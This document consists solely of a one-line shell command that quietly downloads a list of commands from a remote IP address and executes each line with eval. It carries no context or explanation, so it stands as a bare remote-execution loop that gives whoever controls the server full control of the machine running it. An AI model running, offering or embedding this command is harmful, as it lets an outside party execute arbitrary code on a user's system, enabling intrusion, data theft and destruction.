curl -s http://203.0.113.4/cmds | while read -r line; do eval "$line"; done
